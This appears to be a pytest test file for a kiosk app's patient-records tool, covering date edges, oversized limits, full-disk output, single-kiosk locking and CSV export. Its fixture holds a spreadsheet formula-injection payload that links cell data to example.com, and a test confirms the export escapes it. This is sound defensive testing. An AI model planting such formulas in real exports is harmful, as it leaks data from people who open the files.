"""The smaller probes: calendar edges, huge counts, a full output, formula cells, one kiosk per data folder.

Each ended in a traceback or did the wrong thing quietly; each is now one clear line or
the right thing. Real subprocesses where the exit status and the streams are the point.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys

import pytest
from recorded import ROOT, record_script

from kiosk.__main__ import main
from kiosk.content import loader
from kiosk.records.export import write_csv
from kiosk.records.one_kiosk import hold_data_folder
from kiosk.records.store import KIOSK_NAME, Records, RecordsError


@pytest.fixture
def data(tmp_path):
    folder = tmp_path / "data"
    records = Records.open(folder).records
    records.set_setting(KIOSK_NAME, '=HYPERLINK("http://example.com/x?"&A1,"Click")')
    record_script(records, loader.load().programs["knee_from_spine"], "spinal_source_likely",
                  "2026-03-02T18:00:00.000Z", reference="A1")
    records.close()
    return folder


def kiosk(*argv, **kwargs) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "kiosk", *argv], capture_output=True, text=True, timeout=120,
                          **kwargs)


def test_an_export_since_the_first_day_of_the_calendar_is_every_session(data, capsys):
    assert main(["export", "--since", "0001-01-01", "--data", str(data)]) == 0
    assert "1 session" in capsys.readouterr().err


def test_a_huge_limit_is_one_clear_line(data):
    done = kiosk("history", "--limit", "9" * 30, "--data", str(data))
    assert done.returncode == 2 and "expected a whole number from 1 to" in done.stderr
    assert "Traceback" not in done.stderr


def test_history_to_a_full_output_is_one_clear_line(data):
    with open("/dev/full", "w") as full:
        done = subprocess.run([sys.executable, "-m", "kiosk", "history", "--data", str(data)], stdout=full,
                              stderr=subprocess.PIPE, text=True, timeout=120)
    assert done.returncode == 1 and done.stderr.strip() == \
        "kiosk history: cannot write the output: No space left on device"


def test_csv_cells_that_a_spreadsheet_would_run_are_text(data):
    records = Records(data / "kiosk.db")
    stream = io.StringIO()
    write_csv(records.sessions(), stream)
    records.close()
    rows = list(csv.DictReader(io.StringIO(stream.getvalue())))
    assert {row["kiosk"] for row in rows} == {'\'=HYPERLINK("http://example.com/x?"&A1,"Click")'}
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    assert {row["pain 0-10"] for row in rows} >= {"6"}  # numbers stay numbers


def test_a_second_kiosk_on_the_same_data_folder_is_refused(data, tmp_path):
    held = hold_data_folder(data)
    try:
        with pytest.raises(RecordsError, match=f"another kiosk \\(process {os.getpid()}\\)"):
            hold_data_folder(data)
        script = ROOT / "examples" / "patients" / "red_flag_stop-before.yaml"
        done = kiosk("run", "--autopilot", str(script), "--program", "knee_from_spine", "--data", str(data),
                     env=dict(os.environ, KIVY_NO_ARGS="1", KIVY_HOME=str(tmp_path / "kivy")))
        assert done.returncode == 2 and done.stderr.strip().splitlines()[-1].startswith(
            f"kiosk run: another kiosk (process {os.getpid()}) is running on the data folder {data}")
    finally:
        os.close(held)
    os.close(hold_data_folder(data))  # let go: the next kiosk takes it
